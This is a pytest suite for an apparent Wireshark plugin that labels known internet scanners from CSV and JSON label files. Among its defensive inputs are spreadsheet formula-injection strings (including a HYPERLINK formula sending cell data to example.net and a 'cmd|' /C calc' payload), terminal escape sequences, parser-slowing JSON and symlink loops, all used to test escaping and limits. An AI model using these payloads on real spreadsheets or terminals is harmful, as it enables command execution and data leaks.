# Copyright 2026 the Scan Noise developers
# SPDX-License-Identifier: GPL-2.0-or-later
"""Label files: who the known scanners are, in the table, the tree, filters, the JSON and the CSV."""
import csv
import ipaddress
import itertools
import json
import os
import re
import struct
import subprocess
import sys
import time

import pytest

from builders import START, World, line, pcap
from builders_damage import INTERFACE, SECTION, block
from suite import REPO, TABLE
from table import from_sharkd, parse

V4, V6 = World(4), World(6)
ONE, TWO, SIX = V4.scanner(1), V4.scanner(2), V6.scanner(1)
HEADING = "tshark: Scan Noise labels that cannot be used:"
CENSYS, CENSYS_V6 = "162.142.125.10", "2602:80d:1006::1"


@pytest.fixture
def scans(workdir):
    """A capture: two scanners over IPv4 and one over IPv6; the first one tries two ports."""
    packets = [V4.tcp(ONE, V4.router, "S", dport=22), V4.tcp(ONE, V4.router, "S", dport=23),
               V4.tcp(TWO, V4.target(100), "S", dport=23), V6.udp(SIX, V6.router, dport=53)]
    return write(workdir / "scans.pcap", packets)


def write(path, packets):
    path.write_bytes(pcap([(START + n, bytes(line(packet))) for n, packet in enumerate(packets)]))
    return path


@pytest.fixture
def folder(programs):
    """The folder of label files in the personal configuration."""
    path = programs.with_plugin / ".config/wireshark/scannoise"
    path.mkdir(parents=True)
    return path


@pytest.fixture
def labels(tshark, scans):
    """labels(...) -> {scanner: label} as the fields say, of the capture of scans."""
    def run(*args, path=scans, **keywords):
        done = tshark("-2", "-r", path, "-Y", "scannoise.scan", "-T", "json", "-e", "scannoise.scanner",
                      "-e", "scannoise.scanner6", "-e", "scannoise.scanner.label", *args, **keywords)
        frames = [frame["_source"]["layers"] for frame in json.loads(done.stdout)]
        return {(frame.get("scannoise.scanner") or frame["scannoise.scanner6"])[0]:
                frame.get("scannoise.scanner.label", [""])[0] for frame in frames}
    return run


# --- Where labels come from ----------------------------------------------------------------------

def test_no_files_no_labels(labels):
    assert labels() == {ONE: "", TWO: "", SIX: ""}


def test_csv_in_the_personal_folder(labels, folder):
    (folder / "mine.csv").write_text(f"prefix,label\n{ONE},One\n2001:db8::/32,Six\n")
    assert labels() == {ONE: "One", TWO: "", SIX: "Six"}


def test_misp_warning_list(labels, folder):
    (folder / "list.json").write_text(json.dumps({"description": "d", "list": [f"{ONE}/31", SIX], "type": "cidr",
                                                  "name": "R\u00e9seau \"x\"", "version": 20240101}))
    (folder / "hosts.json").write_text(json.dumps({"name": "No addresses", "type": "hostname", "list": ["example.net"]}))
    said = labels()
    assert said[SIX] == said[ONE] == 'Réseau "x"' and said[TWO] == ""


def test_folders_in_the_folder(labels, folder):
    """As MISP has its lists: a folder for each, and every file is called list.json."""
    for name, address in (("one", ONE), ("two", TWO)):
        (folder / name).mkdir()
        (folder / name / "list.json").write_text(json.dumps({"name": name, "list": [address]}))
    (folder / "README.md").write_text("not a label file")
    assert labels() == {ONE: "one", TWO: "two", SIX: ""}


@pytest.mark.parametrize("where", ["file", "folder"])
def test_preference(labels, workdir, where):
    (workdir / "some").mkdir()
    (workdir / "some/labels.csv").write_text(f"{ONE},by preference\n")
    path = workdir / "some" if where == "folder" else workdir / "some/labels.csv"
    assert labels(prefs={"scannoise.labels": str(path)})[ONE] == "by preference"


def test_longest_prefix_wins_across_files_and_later_files_on_ties(labels, folder, workdir):
    (folder / "a.csv").write_text(f"{ONE}/32,exact\n{TWO}/24,folder a\n")
    (folder / "b.csv").write_text(f"{ONE}/24,wide\n{TWO}/24,folder b\n2001:db8::/32,folder\n")
    (workdir / "mine.csv").write_text("2001:db8::/32,preference\n")
    assert labels(prefs={"scannoise.labels": f"{workdir}/mine.csv"}) == \
        {ONE: "exact", TWO: "folder b", SIX: "preference"}


# --- What the plugin carries ---------------------------------------------------------------------

def test_shipped_labels(labels, folder, workdir):
    path = write(workdir / "known.pcap", [V4.tcp(CENSYS, V4.router, "S"), V6.tcp(CENSYS_V6, V6.router, "S")])
    assert labels(path=path) == {CENSYS: "Censys", CENSYS_V6: "Censys"}
    (folder / "mine.csv").write_text("162.142.125.0/24,My own name\n2602:80d:1006::/47,\n")
    assert labels(path=path) == {CENSYS: "My own name", CENSYS_V6: ""}


LINE = re.compile(r"[^,]+,[^,]+,(research|commercial|government|unknown)")


def lines_with_sources(name):
    """(the comment lines right above its block, the line) of each label line of a shipped file."""
    above, after_line = [], False
    lines = (REPO / "plugin/data" / name).read_text().splitlines()
    for text in filter(None, lines[lines.index("prefix,label,kind") + 1:]):
        if text.startswith("#"):
            above = [text] if after_line else [*above, text]
        else:
            yield above, text
        after_line = not text.startswith("#")


def test_shipped_labels_name_their_source():
    """An operator's page or a registry, and the list with its revision; one name and one kind for each operator."""
    kinds = {}
    for above, text in lines_with_sources("labels.csv"):
        assert re.match(r"# (https?://\S+$|Registry: \S)", above[-1 if text.startswith("AS") else 0]), f"no source above {text}"
        assert text.startswith("AS") or "@" in above[1] or "quote it" in above[1], text
        assert LINE.fullmatch(text), text
        if not text.startswith("AS"):
            ipaddress.ip_network(text.split(",")[0])
    for name in ("labels.csv", "names.csv"):
        for _, text in lines_with_sources(name):
            assert LINE.fullmatch(text), text
            _, operator, kind = text.split(",")
            assert kinds.setdefault(operator, kind) == kind, f"{operator} is of two kinds"
            assert len(operator) <= 48
    assert len({name.casefold() for name in kinds}) == len(kinds) > 60


# An address of each of the first operators who publish their networks, in alphabetical order.
PUBLISHED = {
    "45.83.64.1": "Alpha Strike Labs", "66.132.148.7": "Censys", "3.130.96.91": "Cypex", "204.130.133.143": "Dataplane.org",
    "216.180.246.9": "Nokia Deepfield", "52.17.9.21": "Detectify", "87.236.176.200": "Driftnet",
    "142.93.146.198": "ESET Research", "64.94.153.1": "Internet Measurement Research", "44.206.3.3": "Intruder",
    "85.217.140.4": "Modat", "146.88.241.250": "NETSCOUT", "68.69.177.1": "OnlyScans", "91.196.152.8": "ONYPHE",
    "162.216.148.3": "Palo Alto Xpanse", "71.6.233.2": "Rapid7 Sonar", "138.246.253.24": "Technical University of Munich",
    "171.67.71.1": "Stanford University", "137.226.113.44": "RWTH Aachen University", "18.171.7.246": "UK NCSC",
    "2a06:4880::1": "Driftnet", "2602:80d:1006::1": "Censys", "2001:4ca0:108:42::1": "Technical University of Munich"}


def probes_from(*addresses):
    return [(V6 if ":" in each else V4).tcp(each, (V6 if ":" in each else V4).router, "S") for each in addresses]


def test_operators_who_publish_their_networks_are_named(labels, workdir):
    assert labels(path=write(workdir / "known.pcap", probes_from(*PUBLISHED))) == PUBLISHED


# --- By name -------------------------------------------------------------------------------------

def named(path, names, packets):
    """A capture that has names for addresses in it, in a name resolution block, as Wireshark writes it."""
    records = b"".join(record(address, name) for address, name in names.items()) + bytes(4)
    frames = [(START + n, bytes(line(packet))) for n, packet in enumerate(packets)]
    path.write_bytes(SECTION + INTERFACE + block(4, records) + b"".join(enhanced(*frame) for frame in frames))
    return path


def record(address, name):
    value = ipaddress.ip_address(address).packed + name.encode() + b"\0"
    return struct.pack("<HH", 2 if ":" in address else 1, len(value)) + value + bytes(-len(value) % 4)


def enhanced(at, frame):
    micros = round(at * 1_000_000)
    return block(6, struct.pack("<IIIII", 0, micros >> 32, micros & 0xFFFFFFFF, len(frame), len(frame)) + frame)


NAMES = {ONE: "zoom.census.shodan.io", TWO: "scan-15a.shadowserver.org", SIX: "scan-6.Shadowserver.ORG",
         "198.51.100.9": "shodan.io.example.net"}
BY_NAME = {ONE: "Shodan (by name)", TWO: "Shadowserver (by name)", SIX: "Shadowserver (by name)", "198.51.100.9": ""}


@pytest.fixture
def named_scans(workdir):
    return named(workdir / "named.pcapng", NAMES, probes_from(*NAMES))


@pytest.mark.parametrize("resolve", [False, True], ids=["-n", "as it comes"])
def test_names_in_the_capture_name_organisations(labels, tshark, fields, named_scans, workdir, resolve):
    """Everywhere: in fields, filters, tree, table, JSON and CSV; whether names are shown or not."""
    assert labels(path=named_scans, resolve=resolve) == BY_NAME
    assert len(fields(named_scans, 'scannoise.scanner.label == "Shadowserver (by name)"', "frame.number")) == 2
    details = tshark("-2", "-r", named_scans, "-V", "-Y", 'scannoise.scanner.label contains "Shodan"').stdout
    assert "[Label: Shodan (by name)]" in details and "Shodan (by name), 1 port on 1 target" in details
    done = tshark("-q", "-r", named_scans, *TABLE, "-z", "scannoise,json", "-z", f"scannoise,flows,{workdir}/flows.csv",
                  resolve=resolve)
    table = parse(done.stdout)
    assert [(row.item, row.scanners) for row in table["Organisations"]] == \
        [("Shadowserver (by name)", 2), ("Shodan (by name)", 1)]
    assert f"{ONE}, Shodan (by name)" in [row.item for row in table["Top scanners"]]
    said = json.loads(next(text for text in done.stdout.splitlines() if text.startswith("{")))
    assert {row["address"]: row["label"] or "" for row in said["scanners"]} == BY_NAME
    with open(workdir / "flows.csv", newline="") as lines:
        assert [row["label"] for row in csv.DictReader(lines, strict=True)] == list(BY_NAME.values())


def test_names_in_a_hosts_file(labels, programs, scans):
    config = programs.with_plugin / ".config/wireshark"
    config.mkdir(parents=True, exist_ok=True)
    (config / "hosts").write_text(f"{ONE} one.stretchoid.com\n{SIX} a.b.internet-measurement.com\n")
    resolving = {"nameres.network_name": "TRUE", "nameres.use_external_name_resolver": "FALSE"}
    assert labels(path=scans, resolve=True, prefs=resolving) == \
        {ONE: "Stretchoid (by name)", TWO: "", SIX: "Driftnet (by name)"}


def test_a_prefix_wins_over_a_name(labels, folder, named_scans):
    (folder / "mine.csv").write_text(f"{ONE},By prefix\n{TWO},\n*.Shadowserver.org,Mine,government\n")
    assert labels(path=named_scans) == \
        {ONE: "By prefix", TWO: "", SIX: "Mine (by name)", "198.51.100.9": ""}


# --- Where they are shown ------------------------------------------------------------------------

@pytest.fixture
def two_known(folder):
    """One organisation has a scanner over IPv4 and one over IPv6, another one has one."""
    (folder / "mine.csv").write_text(f"{ONE},Org\n{SIX},Org\n{TWO},\"Other, Inc.\"\n")


def test_table(tshark, scans, two_known):
    table = parse(tshark("-q", "-r", scans, *TABLE).stdout)
    assert [row.item for row in table["Top scanners"]] == [f"{ONE}, Org", f"{TWO}, Other, Inc.", f"{SIX}, Org"]
    assert [(row.item, row.packets, row.share, row.scanners, row.ports, row.targets) for row in table["Organisations"]] == \
        [("Org", 3, "75.00", 2, 3, 2), ("Other, Inc.", 1, "25.00", 1, 1, 1)]


def test_sharkd_has_the_same_organisations(sharkd, tshark, scans, two_known):
    said = from_sharkd(sharkd(scans, ("tap", {"tap0": "nstat:scannoise,stat"}))[0])
    assert said["Organisations"] == parse(tshark("-q", "-r", scans, *TABLE).stdout)["Organisations"]


def test_rows_preference_holds_for_organisations(tshark, scans, two_known):
    said = parse(tshark("-q", "-r", scans, *TABLE, prefs={"scannoise.rows": "1"}).stdout)
    assert [row.item for row in said["Organisations"]] == ["Org"]


def test_resets_add_organisations_up(tshark, scans, two_known):
    whole, cut = (parse(tshark("-q", *args, "-r", scans, *TABLE).stdout) for args in ((), ("-M", "2")))
    assert cut["Organisations"] == whole["Organisations"]


def test_tree_and_filter(tshark, fields, scans, two_known):
    details = tshark("-2", "-r", scans, "-V", "-Y", 'scannoise.scanner.label contains "Inc"').stdout
    assert f"scanner {TWO}, Other, Inc., 1 port on 1 target" in details
    assert "[Label: Other, Inc.]" in details
    assert len(fields(scans, 'scannoise.scanner.label == "Org"', "frame.number")) == 3


def test_json(tshark, scans, two_known):
    said = json.loads(tshark("-q", "-r", scans, "-z", "scannoise,json").stdout)
    assert {row["address"]: row["label"] for row in said["scanners"]} == {ONE: "Org", SIX: "Org", TWO: "Other, Inc."}
    assert [(row["name"], row["packets"], row["scanners"], row["ports"], row["targets"]) for row in said["organisations"]] == \
        [("Org", 3, 2, 3, 2), ("Other, Inc.", 1, 1, 1, 1)]


def test_csv(tshark, scans, two_known, workdir):
    tshark("-q", "-r", scans, "-z", f"scannoise,flows,{workdir}/flows.csv")
    with open(workdir / "flows.csv", newline="") as lines:
        assert [row["label"] for row in csv.DictReader(lines, strict=True)] == ["Org", "Org", "Other, Inc.", "Org"]


# --- Kinds of organisation, and networks ------------------------------------------------------------

@pytest.fixture
def kinds(folder):
    """One scanner of a university, one of a company, one of nobody."""
    (folder / "mine.csv").write_text(f"prefix,label,kind\n{ONE},Uni,research\n{TWO},\"Shop, Inc.\",commercial\n")


def test_kinds_in_table_fields_and_json(tshark, fields, scans, kinds):
    done = tshark("-q", "-r", scans, *TABLE, "-z", "scannoise,json", prefs={"scannoise.row_filters": "TRUE"})
    table = parse(done.stdout)
    assert [(row.item, row.packets, row.share, row.scanners, row.ports, row.targets) for row in table["Kinds of organisation"]] == \
        [("research", 2, "50.00", 1, 2, 1), ("unknown", 1, "25.00", 1, 1, 1), ("commercial", 1, "25.00", 1, 1, 1)]
    for row in table["Kinds of organisation"]:
        assert len(fields(scans, table.filters["Kinds of organisation", row.item], "frame.number")) == row.packets
    said = json.loads(next(text for text in done.stdout.splitlines() if text.startswith("{")))
    assert {row["address"]: row["kind"] for row in said["scanners"]} == {ONE: "research", TWO: "commercial", SIX: "unknown"}
    assert [(row["name"], row["packets"], row["scanners"]) for row in said["organisation_kinds"]] == \
        [("research", 2, 1), ("unknown", 1, 1), ("commercial", 1, 1)]
    assert (said["labelled"], said["unlabelled"]) == ({"scanners": 2, "packets": 3}, {"scanners": 1, "packets": 1})
    assert table.captions["Organisations"] == "2 scanners labelled, 1 not"


def test_nobody_known_no_kinds(tshark, scans):
    """Near miss: a section that only says "unknown" is left out; the JSON counts all the same."""
    done = tshark("-q", "-r", scans, *TABLE, "-z", "scannoise,json")
    assert not parse(done.stdout)["Kinds of organisation"]
    said = json.loads(next(text for text in done.stdout.splitlines() if text.startswith("{")))
    assert [row["name"] for row in said["organisation_kinds"]] == ["unknown"]
    assert said["labelled"]["scanners"] == 0 and said["unlabelled"]["scanners"] == 3


def test_kinds_are_those_of_whole_runs(tshark, scans, kinds):
    whole, cut = (parse(tshark("-q", *args, "-r", scans, *TABLE).stdout) for args in ((), ("-M", "2")))
    assert cut["Kinds of organisation"] == whole["Kinds of organisation"] and len(whole["Kinds of organisation"]) == 3


def test_a_quoted_label_with_a_kind_that_is_none(tshark, folder, scans):
    (folder / "mine.csv").write_text(f'{ONE},"One",comercial\n')
    assert tshark("-q", "-r", scans, *TABLE).stderr.splitlines() == [HEADING, f'{folder}/mine.csv:1: "comercial" is no '
                                                                    "kind of organisation: research, commercial, government, unknown"]


NEIGHBOURS = ["192.0.2.7", "192.0.2.200", "192.0.3.1", "198.51.100.1", "2001:db8:7::1", "2001:db8:7:ffff::1", "2001:db8:8::1"]


def test_networks(tshark, fields, workdir):
    """Scanners by /24 and /48, where there are several; an address beside the edge of either is of another one."""
    path = write(workdir / "neighbours.pcap", probes_from(*NEIGHBOURS, "192.0.2.7", "2001:db8:7::2"))
    done = tshark("-q", "-r", path, *TABLE, "-z", "scannoise,json", prefs={"scannoise.row_filters": "TRUE"})
    table = parse(done.stdout)
    assert [(row.item, row.packets, row.scanners, row.ports, row.targets) for row in table["Networks"]] == \
        [("2001:db8:7::/48", 3, 3, 1, 1), ("192.0.2.0/24", 3, 2, 1, 1)]
    for row in table["Networks"]:
        assert len(fields(path, table.filters["Networks", row.item], "frame.number")) == row.packets
    said = json.loads(next(text for text in done.stdout.splitlines() if text.startswith("{")))
    assert [(row["name"], row["scanners"]) for row in said["networks"]] == [("2001:db8:7::/48", 3), ("192.0.2.0/24", 2)]


# The first operators of lists of known scanners: those who publish no networks by the names of their addresses, and
# the one of whom there is neither (CrowdStrike) from a list that the user has converted.
FIRST = {"a.research.a10protects.com": ("192.0.2.10", "A10 Networks"),
         "s1.academyforinternetresearch.org": ("192.0.2.11", "Academy for Internet Research"),
         "s2.adscore.com": ("185.200.118.32", "Adscore"), "": ("45.83.64.9", "Alpha Strike Labs"),
         "min-1.binaryedge.ninja": ("192.0.2.14", "BinaryEdge"), "x.internet-census.org": ("45.156.128.3", "BitSight"),
         "a.scan.bufferover.run": ("192.0.2.16", "bufferover.run"), " ": ("162.142.125.1", "Censys"),
         "security.criminalip.com": ("185.242.226.9", "Criminal IP"), "  ": ("18.97.26.4", "CrowdStrike"),
         "a.scanning.cybcube.com": ("66.240.236.109", "CyberCube"), "b.scanning.cybergreen.net": ("52.73.169.169", "CyberGreen Institute"),
         "c.skipa.cyberok.ru": ("85.142.100.2", "CyberOK"), "d.cyberresilience.io": ("68.183.105.175", "CyberResilience")}


def test_the_first_fourteen_operators_are_named(labels, folder, workdir):
    lists = workdir / "internet-scanners"
    lists.mkdir()
    (lists / "crowdstrikefalconsurface.nft").write_text(
        "# CrowdStrike Falcon Surface (crowdstrike.com)\n\ndefine crowdstrikefalconsurface_v4 = {\n\t18.97.26.0/24,\n}\n")
    converted = subprocess.run([sys.executable, REPO / "plugin/data/labels_from.py", lists], capture_output=True, text=True, check=True)
    (folder / "others.csv").write_text(converted.stdout)
    names = {address: name for name, (address, _) in FIRST.items() if name.strip()}
    path = named(workdir / "first.pcapng", names, probes_from(*(address for address, _ in FIRST.values())))
    assert labels(path=path) == {address: operator + (" (by name)" if address in names else "")
                                 for address, operator in FIRST.values()}


# --- Text that someone else wrote ----------------------------------------------------------------

NASTY = {
    "control": (b"a\x07b\x1b[31mc\x7f", r"a\x07b\x1b[31mc\x7f"),
    "markup": (b"<b>bold</b><script>&amp;", "<b>bold</b><script>&amp;"),
    "invalid": (b"caf\xe9 \xc3", r"caf\xe9 \xc3"),
    "direction": ("a\u202eb".encode(), r"a\u202eb"),
    "long": (b"x" * 10_000, "x" * 48 + "…"),
    "formats": (b"%s%n%d {} \\n", r"%s%n%d {} \n"),
}


def beginning(item, whole):
    """Whether a terminal has the text, or as much of it as there is room for."""
    return item == whole or item.endswith("…") and whole.startswith(item[:-1].rstrip())


@pytest.mark.parametrize("raw, shown", NASTY.values(), ids=NASTY)
def test_nasty_text(tshark, labels, scans, folder, workdir, raw, shown):
    (folder / "nasty.csv").write_bytes(ONE.encode() + b"," + raw + b"\n")
    assert labels()[ONE] == shown
    done = tshark("-q", "-r", scans, *TABLE, "-z", "scannoise,json", "-z", f"scannoise,flows,{workdir}/flows.csv")
    found = next(text for text in done.stdout.splitlines() if text.startswith("{"))
    assert json.loads(found)["scanners"][0]["label"] == shown
    table = parse(done.stdout)
    assert beginning(table["Organisations"][0].item, shown)
    assert beginning(table["Top scanners"][0].item, f"{ONE}, {shown}")
    with open(workdir / "flows.csv", newline="", encoding="utf-8") as lines:
        assert next(csv.DictReader(lines, strict=True))["label"] == shown


FORMULAS = ['=HYPERLINK("http://example.net/?"&A1)', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1+1", "a;=1+1"]


@pytest.mark.parametrize("label", FORMULAS)
def test_csv_has_no_formula(tshark, scans, folder, workdir, label):
    """Not where commas are between cells, and not where a spreadsheet takes semicolons for that."""
    (folder / "mine.csv").write_text(f'{ONE},"' + label.replace('"', '""') + '"\n')
    tshark("-q", "-r", scans, "-z", f"scannoise,flows,{workdir}/flows.csv")
    for delimiter in ",;":
        with open(workdir / "flows.csv", newline="") as lines:
            cells = [cell for row in csv.reader(lines, delimiter=delimiter) for cell in row]
        assert any("1" in cell for cell in cells) and not any(cell[:1] and cell[0] in "=+-@\t\r" for cell in cells)
    with open(workdir / "flows.csv", newline="") as lines:
        assert next(csv.DictReader(lines, strict=True))["label"].replace("'", "") == label.strip().replace("'", "")


# --- Files with mistakes -------------------------------------------------------------------------

def test_lines_that_are_wrong_are_named_and_the_rest_is_used(tshark, folder, scans):
    (folder / "mine.csv").write_text(f"{ONE},One\nnonsense,x\nno comma\n{TWO},Two\n")
    done = tshark("-q", "-r", scans, *TABLE)
    assert [row.item for row in parse(done.stdout)["Top scanners"]][:2] == [f"{ONE}, One", f"{TWO}, Two"]
    assert done.stderr.splitlines() == [
        HEADING,
        f'{folder}/mine.csv:2: "nonsense" is no address, CIDR prefix, host name or AS number',
        f"{folder}/mine.csv:3: no comma between prefix and label"]


def test_reports_are_bounded(tshark, folder, scans):
    (folder / "mine.csv").write_text("nonsense,x\n" * 100_000 + f"{ONE},One\n")
    said = tshark("-q", "-r", scans, "-z", "scannoise,stat").stderr.splitlines()
    assert len(said) == 7 and said[-1] == f"{folder}/mine.csv: 99995 more"


SLOW_JSON = {       # Wireshark's parser takes a time that grows with the square of these
    "deep": '{"name": "x", "list": ' + "[" * 100_000 + "]" * 100_000 + "}",
    "deep and open": "[" * 100_000,
    "deep objects": '{"a":' * 100_000 + "1" + "}" * 100_000,
    "wide": '{"name": "x", "list": [' + "[]," * 300_000 + "[]]}",
    "many members": '{"name": "x"' + "".join(f', "{n}": {n}' for n in range(300_000)) + "}",
}


@pytest.mark.parametrize("content, complaint", [
    ("{", "is no JSON"), ("[]", "is not a JSON object"), ("", "is not a JSON object"), ("{}", 'lacks "name" or "list"'),
    ('{"name": 7, "list": []}', 'lacks "name" or "list"'), ('{"name": "x", "list": "y"}', 'lacks "name" or "list"'),
    ('{"name": "x",\n "list": [\n"192.0.2.1",\n"z"]}', 'list.json:4: "z" is neither an address nor a CIDR prefix'),
    ('{"name": "x", "list": [1]}', "list.json:1: a prefix must be a string"),
    *((content, "list.json: is no warning list: it has more than 100 objects, lists and members")
      for content in SLOW_JSON.values())], ids=lambda value: value[:30])
def test_json_that_is_wrong(tshark, folder, scans, content, complaint):
    (folder / "list.json").write_text(content)
    done = tshark("-q", "-r", scans, *TABLE)
    assert complaint in done.stderr and "list.json" in done.stderr
    assert parse(done.stdout).scans().packets == 4


def test_a_preference_that_names_nothing_is_refused(tshark, scans):
    done = tshark("-q", "-r", scans, *TABLE, prefs={"scannoise.labels": "/nowhere/labels.csv"}, check=False)
    assert done.stderr == \
        "tshark: Scan Noise: preference scannoise.labels: there is no file or folder /nowhere/labels.csv\n"
    assert (done.returncode, done.stdout) == (1, "")


def test_brackets_in_strings_are_text(labels, folder):
    """Near miss: what looks like many parts is a description."""
    (folder / "list.json").write_text(json.dumps({"description": '[{":' * 1000 + '\\"', "name": "One", "list": [ONE]}))
    assert labels()[ONE] == "One"


def test_many_entries_are_no_trouble(labels, folder):
    """A real list has none of these, but a long one is a list."""
    entries = [f"10.{n >> 16}.{n >> 8 & 255}.{n & 255}" for n in range(200_000)]
    (folder / "list.json").write_text(json.dumps({"name": "One", "list": [*entries, ONE]}))
    assert labels()[ONE] == "One"


def test_twenty_bad_files_are_one_message(tshark, folder, scans):
    """A dialog in Wireshark: so it has a heading, some lines of each file, and an end."""
    for n in range(20):
        (folder / f"bad{n:02}.csv").write_text("nonsense,x\n" * 7)
    (folder / "is.json").write_text("[]")
    said = tshark("-q", "-r", scans, *TABLE).stderr.splitlines()
    assert said[0] == HEADING and said.count(HEADING) == 1
    assert said[1:7] == [*(f'{folder}/bad00.csv:{n}: "nonsense" is no address, CIDR prefix, host name or AS number' for n in range(1, 6)),
                         f"{folder}/bad00.csv: 2 more"]
    assert len(said) == 1 + 5 * 6 + 1 and said[-1] == f"and {15 * 7 + 1} more in other files"


def test_names_of_files_are_escaped(tshark, folder, scans):
    """A file's name is a stranger's text as well, and a terminal obeys it."""
    (folder / "red\x1b[31m\nnext\u202e.csv").write_text("nonsense,x\n")
    said = tshark("-q", "-r", scans, *TABLE).stderr.splitlines()
    assert said == [HEADING, rf'{folder}/red\x1b[31m\x0anext\u202e.csv:1: "nonsense" is no address, CIDR prefix, host name or AS number']


def test_a_folder_that_cannot_be_read_is_said(tshark, programs, workdir, scans):
    (workdir / "closed").mkdir(mode=0)
    done = tshark("-q", "-r", scans, *TABLE, prefs={"scannoise.labels": f"{workdir}/closed"})
    assert done.stderr.splitlines() == [HEADING, f"{workdir}/closed: Permission denied"]


# --- Folders with links ---------------------------------------------------------------------------

def test_a_folder_full_of_links_to_itself(labels, tshark, folder, scans):
    """It was read once for each way to it: 200 * 200 * 200 times."""
    (folder / "mine.csv").write_text(f"{ONE},One\nnonsense,x\n")
    for n in range(200):
        (folder / f"link{n}").symlink_to(folder)
    begun = time.monotonic()
    assert labels()[ONE] == "One"
    assert time.monotonic() - begun < 30
    assert tshark("-q", "-r", scans, *TABLE).stderr.count("nonsense") == 1


def test_links_between_folders(labels, workdir):
    """A ring of folders, each with a file: all are read, in the order in which they are met."""
    for name, to in (("a", "b"), ("b", "c"), ("c", "a")):
        (workdir / "ring" / name).mkdir(parents=True)
        (workdir / "ring" / name / "z").symlink_to(workdir / "ring" / to)
    (workdir / "ring/a/1.csv").write_text(f"{ONE},One\n")
    (workdir / "ring/b/1.csv").write_text(f"{TWO},Two\n")
    (workdir / "ring/c/1.csv").write_text(f"{SIX},Six\n")
    assert labels(prefs={"scannoise.labels": f"{workdir}/ring"}) == {ONE: "One", TWO: "Two", SIX: "Six"}


@pytest.mark.parametrize("link", [os.symlink, os.link])
def test_a_file_of_many_names_is_read_once(tshark, folder, scans, link):
    (folder / "a.csv").write_text("nonsense,x\n")
    for n in range(9):
        link(folder / "a.csv", folder / f"b{n}.csv")
    assert tshark("-q", "-r", scans, *TABLE).stderr.count("nonsense") == 1


def test_the_last_name_of_a_file_counts(labels, folder, workdir):
    """The preference may name a file of the folder, to have the last word."""
    (folder / "a.csv").write_text(f"{ONE},a\n")
    (folder / "b.csv").write_text(f"{ONE},b\n")
    assert labels()[ONE] == "b"
    assert labels(prefs={"scannoise.labels": f"{folder}/a.csv"})[ONE] == "a"


def test_too_many_files(labels, tshark, folder, scans):
    for n in range(4200):
        (folder / f"{n:05}.csv").write_text(f"{ONE},{n}\n")
    assert labels()[ONE] == "4095"
    said = tshark("-q", "-r", scans, *TABLE).stderr.splitlines()
    assert said == [HEADING, f"{folder}: more than 4096 label files, or 65536 of all files, are not looked at"]


def test_a_pipe_is_not_waited_for(tshark, workdir, scans):
    os.mkfifo(workdir / "pipe.csv")
    done = tshark("-q", "-r", scans, *TABLE, prefs={"scannoise.labels": f"{workdir}/pipe.csv"})
    assert "pipe.csv" in done.stderr


# --- While the program runs ----------------------------------------------------------------------

def test_files_are_read_again_when_they_have_changed(programs, sharkd, scans, folder, workdir):
    """One sharkd, two openings of the capture, and a preference set in between; no report comes twice."""
    (folder / "bad.csv").write_text("nonsense,x\n")
    (workdir / "mine.csv").write_text(f"{ONE},By preference\n")
    tap = ("tap", {"tap0": "nstat:scannoise,stat"})
    first, _, _, second = sharkd(scans, tap, ("setconf", {"name": "scannoise.labels", "value": f"{workdir}/mine.csv"}),
                                 ("load", {"file": str(scans)}), tap)
    assert from_sharkd(first)["Organisations"] == []
    assert [row.item for row in from_sharkd(second)["Organisations"]] == ["By preference"]


def test_many_prefixes_are_quick(tshark, scans, folder):
    """Two hundred thousand prefixes: read once, and each look-up costs a dozen steps."""
    with open(folder / "many.csv", "w") as file:
        for n in range(200_000):
            file.write(f"{10 + n % 90}.{n // 256 % 256}.{n % 256}.{n % 7}/{32 - n % 12},Label {n}\n")
        file.write(f"{ONE},One\n")
    begun = time.monotonic()
    assert parse(tshark("-q", "-r", scans, *TABLE).stdout)["Organisations"][0].item == "One"
    assert time.monotonic() - begun < 30


def test_names_that_collide_are_as_quick(tshark, workdir, folder):
    """65 536 organisations whose names have one hash in GLib's tables: they took it 79 s."""
    names = ["".join(pairs) for pairs in itertools.product(("ab", "bA"), repeat=16)]
    first = int(ipaddress.ip_address("198.18.0.0"))
    (folder / "mine.csv").write_text("".join(
        f"{ipaddress.ip_address(first + n)},{name}\n" for n, name in enumerate(names)))
    before, after = bytes(line(V4.tcp(ONE, V4.router, "S"))).split(ipaddress.ip_address(ONE).packed)
    path = workdir / "crowd.pcap"
    path.write_bytes(pcap([(n, before + (first + n).to_bytes(4, "big") + after) for n in range(len(names))]))
    begun = time.monotonic()
    said = json.loads(tshark("-q", "-r", path, "-z", "scannoise,json").stdout)
    assert time.monotonic() - begun < 30
    assert {row["name"] for row in said["organisations"]} == set(names)
